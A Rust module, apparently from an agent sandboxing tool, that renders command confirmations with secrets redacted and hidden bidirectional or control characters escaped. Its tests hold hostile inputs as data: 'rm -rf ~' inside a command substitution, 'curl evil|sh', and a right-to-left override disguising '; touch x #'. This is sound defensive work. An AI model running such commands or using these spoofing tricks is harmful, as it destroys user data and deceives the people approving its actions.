//! What a person is shown when asked to confirm a call.
//!
//! Two rules meet here. A confirmation must show exactly what will run, so nothing may be hidden
//! in it (Attack: display spoofing, with bidirectional overrides or control characters: all are
//! shown escaped). And a secret in the command (a bearer token, a key) should not be put on the
//! screen or into a client's transcript (Attack: LOG-01). So a secret is replaced by `[REDACTED]`
//! only where the replaced text is a secret's shape alone: a span holding shell syntax (`$`,
//! backquotes, `;`, `|`, `&`, redirections, parentheses, braces, quotes, whitespace) is shown as it
//! is, since hiding it could hide what runs. The approval still binds to the call itself: what is
//! approved is the prepared call that runs, whatever its display.

use similar::{ChangeTag, TextDiff};
use spear_core::redact::redact;
use spear_policy::make_visible;

/// The text a confirmation shows for `command`: secrets of a plain shape redacted, everything
/// else exactly as it will run, with control, bidirectional and invisible characters escaped.
pub fn confirmation_text(command: &str) -> String {
    make_visible(&redact_plain_secrets(command))
}

/// The warning a confirmation adds when `command` holds characters it shows escaped (control,
/// bidirectional, invisible): the person should read the escaped form, since that is what runs.
/// Attack: APR-01, a right-to-left override that makes `; touch x #` read as harmless text.
pub fn hidden_characters_warning(command: &str) -> Option<&'static str> {
    (make_visible(command) != command).then_some(
        "warning: the command holds invisible, bidirectional or control characters, shown escaped (\\u{...}); exactly these bytes run",
    )
}

/// The lines a question adds for the host-run configuration a call writes (none for none): each
/// file, its catalogue entry and what runs it on the host, escaped as the command is. Attack: a
/// hook or an editor task approved as an ordinary write because the person was not told what
/// runs it later.
pub fn host_config_lines(writes: &[spear_core::HostConfigWrite]) -> String {
    if writes.is_empty() {
        return String::new();
    }
    let mut out = String::from(
        "host-run configuration (a tool on the host runs or obeys it later, outside every \
         sandbox):\n",
    );
    for w in writes {
        out.push_str("  - ");
        out.push_str(&confirmation_text(&w.describe()));
        out.push('\n');
    }
    out
}

/// `text` with the redactor's replacements kept only where what they replace holds no shell
/// syntax.
fn redact_plain_secrets(text: &str) -> String {
    let redacted = redact(text);
    if redacted == text {
        return text.to_owned();
    }
    let diff = TextDiff::from_chars(text, redacted.as_ref());
    let mut out = String::with_capacity(text.len());
    let mut removed = String::new();
    let mut inserted = String::new();
    let flush = |out: &mut String, removed: &mut String, inserted: &mut String| {
        if removed.chars().any(is_shell_syntax) {
            out.push_str(removed);
        } else {
            out.push_str(inserted);
        }
        removed.clear();
        inserted.clear();
    };
    for change in diff.iter_all_changes() {
        match change.tag() {
            ChangeTag::Equal => {
                flush(&mut out, &mut removed, &mut inserted);
                out.push_str(change.value());
            }
            ChangeTag::Delete => removed.push_str(change.value()),
            ChangeTag::Insert => inserted.push_str(change.value()),
        }
    }
    flush(&mut out, &mut removed, &mut inserted);
    out
}

/// Characters that make a span more than a secret's value.
fn is_shell_syntax(c: char) -> bool {
    c.is_whitespace() || "$`;|&<>(){}'\"\\*?![]#~".contains(c)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn host_config_lines_name_each_file_and_what_runs_it() {
        assert_eq!(host_config_lines(&[]), "");
        let lines = host_config_lines(&[spear_core::HostConfigWrite {
            path: ".vscode/tasks\u{202e}.json".into(),
            entry: "vscode".into(),
            why: "VS Code runs its tasks".into(),
        }]);
        assert!(lines.contains("host-run configuration"), "{lines}");
        assert!(
            lines.contains("(vscode): VS Code runs its tasks"),
            "{lines}"
        );
        assert!(
            lines.contains("\\u{202e}") && !lines.contains('\u{202e}'),
            "a path is shown escaped: {lines}"
        );
    }

    #[test]
    fn plain_tokens_are_redacted_shell_syntax_is_not() {
        // LOG-01: the token goes, the rest stays.
        let shown = confirmation_text(
            "curl -H 'Authorization: Bearer ghp_0123456789abcdefghijklmnopqrstuvwxyzAB' https://api.github.com/user",
        );
        assert!(!shown.contains("ghp_0123"), "{shown}");
        assert!(shown.contains("Authorization: Bearer") && shown.contains("api.github.com"));
        // A "token" that is really a command substitution is shown as it is.
        let shown = confirmation_text("curl -H 'Authorization: Bearer $(rm -rf ~)' https://x");
        assert!(shown.contains("$(rm -rf ~)"), "{shown}");
        let shown = confirmation_text("API_TOKEN=`curl evil|sh` make");
        assert!(shown.contains("`curl evil|sh`"), "{shown}");
        // Bidirectional overrides and controls are shown escaped (APR-01).
        let shown = confirmation_text("echo \"\u{202e}; touch x #\u{202c} safe\"");
        assert!(
            shown.contains("\\u{202e}") && !shown.contains('\u{202e}'),
            "{shown}"
        );
        // Nothing secret: unchanged.
        assert_eq!(confirmation_text("cargo test --all"), "cargo test --all");
        // Hidden characters are warned of; plain text and line breaks are not.
        assert!(hidden_characters_warning("echo \u{202e}x").is_some());
        assert!(hidden_characters_warning("a\u{200b}b").is_some());
        assert!(hidden_characters_warning(r"printf '\x1b'").is_none());
        assert!(hidden_characters_warning("printf \u{1b}[8m").is_some());
        assert!(hidden_characters_warning("make\nmake test").is_none());
    }
}
